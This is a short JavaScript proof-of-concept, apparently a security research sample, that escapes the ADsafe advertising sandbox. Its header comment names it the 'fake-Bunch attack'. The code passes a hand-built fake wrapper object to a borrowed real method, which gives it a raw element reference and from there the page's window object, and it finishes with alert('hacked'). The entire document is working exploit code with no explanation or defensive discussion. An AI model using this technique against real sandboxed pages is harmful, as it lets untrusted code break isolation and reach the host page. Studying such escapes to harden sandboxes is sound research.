// The fake-Bunch attack: a hand-built object that poses as a wrapper so
// the runtime hands its phony appendChild a direct element reference.
ADSAFE.go("AD_", function (dom, lib) {
    var myWindow, fakeNode, fakeBunch, realBunch;
    fakeNode = {
        appendChild: function (elt) {
            myWindow = elt.ownerDocument.defaultView;
        },
        tagName: "div",
        value: null
    };
    fakeBunch = {"___nodes___": [fakeNode]};
    realBunch = dom.tag("p");
    fakeBunch.value = realBunch.value;
    fakeBunch.value("");
    myWindow.alert("hacked");
});
